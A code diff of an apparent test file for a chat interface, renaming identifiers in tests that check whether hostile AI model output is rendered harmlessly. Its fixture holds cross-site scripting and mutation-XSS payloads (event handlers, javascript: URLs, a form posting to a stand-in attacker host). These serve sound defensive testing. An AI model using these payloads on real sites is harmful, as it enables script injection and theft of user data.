@@ -20,7 +20,7 @@ export const text = `Common ground, and this:
 <div style="position:fixed;inset:0;background:url(${EVIL}/bg.png)" class="stop" id="send" onmouseover="window.hacked='over'">cover</div>
 
 <style>body { display: none; background: url(${EVIL}/css.png) }</style>
-<form action="${EVIL}" id="ask"><input name="key" autofocus onfocus="window.hacked='focus'"><button>Send</button></form>
+<form action="${EVIL}" id="composer"><input name="key" autofocus onfocus="window.hacked='focus'"><button>Send</button></form>
 <svg onload="window.hacked='svg'"><a xlink:href="javascript:window.hacked='xlink'"><text>x</text></a></svg>
 <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked='mxss'&gt;"></table></mtext></math>
 <iframe src="javascript:window.hacked='frame'"></iframe><object data="${EVIL}"></object><embed src="${EVIL}">
@@ -60,7 +60,7 @@ const cast = {
     reasoning: text,
     reasoning_details: [uses("openrouter:web_search", { query: "<img src=x onerror=window.hacked='tool'>" }, {})],
   }),
-  "desk/judge": { sequence: [says(JSON.stringify(comparison())), says(text)] },
+  "desk/analyst": { sequence: [says(JSON.stringify(comparison())), says(text)] },
 };
 
 function comparison() {
@@ -73,7 +73,7 @@ function comparison() {
   };
 }
 
-export const hostile = [
+export const untrustedOutput = [
   { name: "hostile output is harmless", run: harmless },
   { name: "hostile output is harmless on a phone too", run: harmless, viewport: { width: 320, height: 640 } },
   { name: "a hostile error message is only text", run: errorText },
@@ -82,7 +82,7 @@ export const hostile = [
 async function harmless({ open, site, room }) {
   await room.script(cast);
   const page = await open();
-  await useOwn(page, room.baseURL, ["desk/evil", "desk/evil"], "desk/judge");
+  await useOwn(page, room.baseURL, ["desk/evil", "desk/evil"], "desk/analyst");
   await ask(page, "Is the sky blue?");
   await ended(page, "done");
   await page.locator(".turn details").evaluateAll((folds) => folds.forEach((fold) => (fold.open = true)));
@@ -125,6 +125,6 @@ async function errorText({ open, site, room }) {
   await ended(page, "failed");
   includes(await textOf(page.locator(".notice.error")), "<b>bold</b>");
   includes(await textOf(page.locator(".panelist").first()), "name");
-  equal(await page.locator(".turn :is(img, b, i:not(.ghost i))").count(), 0);
+  equal(await page.locator(".turn :is(img, b, i:not(.skeleton i))").count(), 0);
   await clean(page, site, room.baseURL);
 }
